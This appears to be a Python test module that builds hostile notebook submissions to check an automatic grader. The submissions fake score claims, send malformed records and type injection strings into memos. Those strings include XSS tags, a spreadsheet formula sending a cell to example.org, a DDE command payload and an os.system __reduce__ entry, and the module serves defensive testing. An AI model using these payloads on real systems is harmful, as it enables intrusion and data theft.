"""Whole notebooks that claim points, and records that are bent: wrong in one thing, or odd and right."""

import json
from collections.abc import Callable
from typing import Any

from entraide.coding import answers
from tests.grading.hostile.student import CODE, NONE, PART, SCRIPT, Good, Hostile, cell, dumped, hands_in, output


def claims(good: Good) -> list[Hostile]:
    """No answers, and points claimed in every place where a grader might look."""
    first = good.records[good.names[0]]

    def claimed(student: str, change: Callable[[dict[str, Any], dict[str, Any]], Any]) -> Hostile:
        notebook = good.notebook([])
        for c in notebook["cells"]:
            if c["metadata"].get("nbgrader", {}).get("grade"):
                change(c, c["metadata"]["nbgrader"])
        return hands_in(student, dumped(notebook), NONE)

    def result(text: Any) -> list[dict[str, Any]]:
        return [{"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": text}}]

    return [
        claimed("says-25", lambda c, _: c.update(outputs=result("25"))),
        claimed("says-infinity", lambda c, _: c.update(outputs=result("inf"))),
        claimed("says-well-done", lambda c, _: c.update(outputs=[output({"text/html": "<b>25 / 25</b>" + SCRIPT})])),
        claimed("prints-25", lambda c, _: c.update(outputs=[{"output_type": "stream", "name": "stdout", "text": "1"}])),
        claimed("a-thousand-points", lambda c, settings: settings.update(points=1000)),
        claimed("points-not-a-number", lambda c, settings: settings.update(points=float("nan"), max_score=1e308)),
        claimed("points-below-zero", lambda c, settings: settings.update(points=-100)),
        claimed("not-graded-by-itself", lambda c, settings: settings.update(solution=True, locked=False, task=True)),
        claimed("no-grade-at-all", lambda c, settings: settings.update(grade=False)),
        claimed("score-in-the-settings", lambda c, settings: settings.update(score=25, auto_score=25, checksum="0")),
        claimed("record-in-the-settings", lambda c, _: c["metadata"].update(entraide={"answer": first, "notes": []})),
        claimed("notes-in-the-settings", lambda c, _: c["metadata"].update(entraide={"notes": [{"key": SCRIPT}]})),
        claimed("record-as-attachment", lambda c, _: c.update(attachments={"a": {answers.MIME: first}})),
        claimed("record-as-source", lambda c, _: c.update(source=json.dumps({answers.MIME: first}))),
        claimed("record-as-text", lambda c, _: c.update(outputs=[output({"text/plain": json.dumps(first)})])),
        claimed("record-in-a-list", lambda c, _: c.update(outputs=[output({answers.MIME: [first]})])),
        claimed("record-as-words", lambda c, _: c.update(outputs=[output({answers.MIME: json.dumps(first)})])),
        claimed("code-in-place", lambda c, _: c.update(source=CODE, outputs=result("25"))),
    ]  # fmt: skip


def records_bent(good: Good) -> list[Hostile]:
    """Records with one thing wrong, or one thing odd and right."""
    coding, one, several = good.names[0], good.names[2], good.names[4]
    codings = good.codings
    excerpts = [good.course.excerpts[name] for name in good.course.exercise(coding).items]
    codes = good.course.exercise(coding).codes
    everything = [
        {"excerpt": excerpt.excerpt, "unit": unit.unit, "code": code}
        for excerpt in excerpts
        for unit in excerpt.units
        for code in codes
    ]
    options = [option.option for option in good.course.questions[good.course.exercise(several).items[0]].options]

    def bent(student: str, earns: str, name: str = coding, **changes: Any) -> Hostile:
        return hands_in(student, dumped(good.changed(name, **changes)), earns)

    def named(student: str, exercise: str) -> Hostile:
        notebook = good.notebook([])
        cell(notebook, coding)["outputs"] = [output({answers.MIME: good.records[coding] | {"exercise": exercise}})]
        return hands_in(student, dumped(notebook), NONE)

    def every(student: str, earns: str, **changes: Any) -> Hostile:
        return bent(student, earns, value=[coding | changes for coding in codings])

    def both(student: str, earns: str, other: dict[str, Any]) -> Hostile:
        record = good.records[coding]
        return hands_in(student, dumped(good.notebook([record, record | other])), earns)

    long_ago, far_off = "0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z"
    return [
        *(bent(f"schema-{place}", NONE, schema=value) for place, value in enumerate((2, "1", None, [1], {}, 1e999))),
        bent("schema-in-words-of-a-machine", PART, schema=True),
        *(bent(f"kind-{place}", NONE, kind=value) for place, value in enumerate(("choice", "Coding", None, [], 0))),
        *(
            bent(f"date-{place}", NONE, saved_at=value)
            for place, value in enumerate(
                ("0000-01-01T00:00:00Z", "10000-01-01T00:00:00Z", "2026-02-30T10:00:00Z", "2026-01-01T00:00:00+99:99",
                 "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "yesterday", "", None, 0, 1e999, [], {},
                 "2026-01-01\u202e", "２０２６-01-01T00:00:00Z", "2026-01-01T25:61:61Z", "x" * 100_000)
            )
        ),
        bent("date-of-long-ago", PART, saved_at=long_ago),
        bent("date-of-the-end", PART, saved_at=far_off),
        bent("date-without-zone", PART, saved_at="2026-01-31T14:05:00"),
        bent("date-of-a-week", PART, saved_at="2026-W05-6"),
        both("newer-and-blank", NONE, {"saved_at": far_off, "value": []}),
        both("older-and-blank", PART, {"saved_at": long_ago, "value": []}),
        both("newer-and-broken", PART, {"saved_at": far_off, "value": "?"}),
        both("newer-of-another-kind", PART, {"saved_at": far_off, "kind": "choice", "value": ["a"]}),
        *(bent(f"language-{place}", PART, lang=lang) for place, lang in enumerate(("de", "fr", None, ["en"], SCRIPT))),
        bent("points-inside", NONE, value=[], points=25, score=25, share=1, hit=99),
        bent("names-of-a-language", PART, __reduce__=["os.system", CODE], __class__="Answer", __proto__={"score": 25}),
        bent("value-is-an-object", NONE, value={str(i): coding for i, coding in enumerate(codings)}),
        bent("value-is-words", NONE, value="everything"),
        bent("value-is-not-a-number", NONE, value=float("nan")),
        bent("value-in-a-list", NONE, value=[codings]),
        bent("a-hundred-thousand-nothings", NONE, value=[None] * 100_000 + codings),
        bent("the-same-thousandfold", PART, value=codings * 1000),
        bent("record-too-large", NONE, padding="x" * 1_000_001),
        bent("memos-too-large", NONE, value=[coding | {"memo": "x" * 80_000} for coding in codings]),
        bent("everything-everywhere", PART, value=everything),
        bent("everything-twice", PART, value=everything + everything),
        *(
            every(f"unit-{place}", NONE, unit=value)
            for place, value in enumerate(
                (True, 1.0, "1", float("nan"), float("inf"), -1, 0, 10**30, None, [1], {"unit": 1}, "G01")
            )
        ),
        *(
            every(f"code-{place}", NONE, code=value)
            for place, value in enumerate(
                (None, [], {}, 7, "", "SHARED-REALITY", "shared-reality\u200b", "shared\u2010reality", "*", "G01")
            )
        ),
        *(
            every(f"excerpt-{place}", NONE, excerpt=value)
            for place, value in enumerate((None, [], "P01", "g01", "G01 ", "../G01", "G99", {"G01": 1}, SCRIPT))
        ),
        every("memo-of-another-type", PART, memo={"html": SCRIPT}),
        named("exercise-in-capitals", coding.upper()),
        named("exercise-and-a-space", f"{coding} "),
        bent("five-thousand-wrong-ones-first", NONE, value=[codings[0] | {"unit": 99}] * 5_000 + codings),
        bent("options-in-capitals", NONE, several, value=[option.upper() for option in options]),
        bent("all-options", NONE, several, value=options),
        bent("an-option-a-hundred-times", "", several, value=[options[0]] * 100),
        bent("options-and-more", "", several, value=[*options, None, 7, "z", ["a"], {"a": 1}]),
        bent("options-in-a-list", NONE, several, value=[options]),
        bent("options-as-a-word", NONE, several, value="".join(options)),
        bent("all-of-one", NONE, one, value=["a", "b", "c", "d"]),
        bent("options-are-numbers", NONE, one, value=[0, 1, 2, True]),
        bent("answer-of-the-other-question", "", one, value=good.records[several]["value"]),
    ]  # fmt: skip


TEXTS = {
    "script": SCRIPT,
    "image": '"><img src=x onerror=alert(1)>',
    "end-of-page": "</div></td></tr></table></main></body></html><h1>100 / 100</h1>",
    "end-of-comment": "--> ]]> </script></style></textarea></title>",
    "entities": "&lt;script&gt; &amp;#x3c; &#60;b&#62; &nbsp",
    "template": "{{ 7*7 }} {% raw %} ${7*7} %s {0} {won} #{7}",
    "formula": '=HYPERLINK("http://example.org/?"&A1,"Grade")\n=cmd|\'/C calc\'!A0\n@SUM(1)\n+1\n-1',
    "markdown": "[x](javascript:alert(1)) ![y](http://example.org/y.png) <http://example.org> # Heading\n```\n",
    "zero-width": "re\u200bad \u200dme\ufeff \u2060",
    "only-zero-width": "\u200b\u200d\ufeff",
    "right-to-left": "\u202e001 / 001\u202c \u2067\u2066 שלום",
    "half-a-pair": "\ud83d alone \udc00",
    "control": "\x00\x01\x07\x08\x1b[31mred\x7f\x85\x9b \x0c",
    "no-characters": "\ufffe\uffff",
    "joined": "👩🏽‍👩🏽‍👧🏽‍👦🏽" * 200,
    "piled-up": "Z" + "\u0300" * 5000,
    "very-long": "mot " * 100_000,
    "one-long-line": "x" * 19_000,
    "blank": " \n\t\u00a0 ",
}


def texts(good: Good) -> list[Hostile]:
    """What is typed into memos: it must be shown, or replaced, and never do anything."""
    coding, question, memo = good.names[0], good.names[2], good.names[5]

    def typed(text: str) -> list[dict[str, Any]]:
        return [
            good.records[memo] | {"value": text},
            good.records[coding] | {"value": [found | {"memo": text[:20_000]} for found in good.codings[:2]]},
            good.records[coding] | {"schema": text[:500]},
            good.records[question] | {"value": [text[:500]], "lang": text[:50]},
        ]

    return [hands_in(f"types-{name}", dumped(good.notebook(typed(text))), "") for name, text in TEXTS.items()]
